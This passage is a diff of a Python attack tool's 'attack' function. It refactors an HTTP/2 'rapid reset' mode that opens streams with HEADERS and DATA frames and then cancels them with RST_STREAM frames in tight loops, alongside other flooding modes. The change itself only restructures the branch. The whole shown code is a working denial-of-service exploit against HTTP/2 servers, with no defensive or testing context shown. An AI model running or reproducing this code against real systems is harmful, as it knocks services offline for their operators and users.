@@ -193,31 +193,7 @@ def attack(host: str, port: int, mode: str, n: int, seconds: float, result: dict
             sock.sendall(out)
         except OSError:
             pass
-    elif mode == "rapid_reset_late":
-        sock.sendall(PREFACE + settings())
-        reader = threading.Thread(target=read_for, args=(sock, deadline, result, lock), daemon=True)
-        reader.start()
-        stream = 1
-        body = generate(f"rr-{n}", 4)
-        try:
-            while time.monotonic() < deadline and stream < 2_000_000_000:
-                calls, resets = b"", b""
-                for _ in range(10):
-                    calls += frame(0x1, 0x4, stream, block) + frame(0x0, 0, stream, body)
-                    resets += frame(0x3, 0, stream, struct.pack(">I", 8))
-                    stream += 2
-                    started += 1
-                sock.sendall(calls)
-                time.sleep(0.02)
-                sock.sendall(resets)
-        except OSError:
-            pass
-        with lock:
-            result["started"] += started
-        reader.join()
-        sock.close()
-        return
-    elif mode in ("rapid_reset", "early_end", "connect"):
+    elif mode in ("rapid_reset", "rapid_reset_late", "early_end", "connect"):
         sock.sendall(PREFACE + settings())
         reader = threading.Thread(target=read_for, args=(sock, deadline, result, lock), daemon=True)
         reader.start()
@@ -227,6 +203,17 @@ def attack(host: str, port: int, mode: str, n: int, seconds: float, result: dict
         over = b"\x00" + struct.pack(">I", 0x7FFFFFFF) + b"x" * 1000
         try:
             while time.monotonic() < deadline and stream < 2_000_000_000:
+                if mode == "rapid_reset_late":
+                    calls, resets = b"", b""
+                    for _ in range(10):
+                        calls += frame(0x1, 0x4, stream, block) + frame(0x0, 0, stream, body)
+                        resets += frame(0x3, 0, stream, struct.pack(">I", 8))
+                        stream += 2
+                        started += 1
+                    sock.sendall(calls)
+                    time.sleep(0.02)
+                    sock.sendall(resets)
+                    continue
                 out = b""
                 for _ in range(50):
                     if mode == "rapid_reset":
